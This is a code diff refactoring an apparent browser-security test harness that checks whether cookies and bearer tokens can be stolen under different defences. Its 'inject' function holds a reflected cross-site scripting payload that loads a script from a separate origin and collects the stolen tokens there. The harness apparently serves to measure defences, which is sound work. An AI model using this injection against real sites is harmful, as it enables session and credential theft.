@@ -3,8 +3,7 @@ import type { Browser } from 'playwright-core'
 import { agentFor, exchange } from '../../../load/wire/exchange.ts'
 import type { BrowserSeen } from '../../../record/types.ts'
 import { ALL } from './defences.ts'
-import { openSites } from './sites.ts'
-import { visit } from './visit.ts'
+import { visiting } from './visit.ts'
 
 type Theft = BrowserSeen['thefts'][number]
 
@@ -14,7 +13,7 @@ const PLACES = { bearer: ['local-storage'], cookie: ['plain-cookie', 'http-only-
 export async function steal(
   browser: Browser,
   server: string,
-  transport: 'cookie' | 'bearer',
+  transport: keyof typeof PLACES,
 ): Promise<Theft[]> {
   const thefts: Theft[] = []
   for (const keptIn of PLACES[transport]) {
@@ -36,20 +35,15 @@ interface Loot {
   usedHere: number
 }
 
-async function inject(browser: Browser, server: string, keptIn: Theft['keptIn']): Promise<Loot> {
-  const sites = await openSites(server, { ...ALL, httpOnly: keptIn !== 'plain-cookie' })
-  const { app, stranger } = sites.origins
-  try {
-    const victim = await visit(browser, sites)
+function inject(browser: Browser, server: string, keptIn: Theft['keptIn']): Promise<Loot> {
+  const defences = { ...ALL, httpOnly: keptIn !== 'plain-cookie' }
+  return visiting(browser, server, defences, async (victim, { origins: { app, stranger }, loot }) => {
     const page = await victim.open()
     const name = `<script src="${stranger}/steal.js"></script>`
     const brought = page.waitForResponse(`${stranger}/collect`)
     await Promise.all([brought, page.goto(`${app}/hello?${new URLSearchParams({ name })}`)])
-    await victim.end()
-    return JSON.parse(sites.loot()[0] ?? '') as Loot
-  } finally {
-    await sites.close()
-  }
+    return JSON.parse(loot()[0] ?? '') as Loot
+  })
 }
 
 async function letsIn(server: string, headers: Record<string, string>): Promise<boolean> {
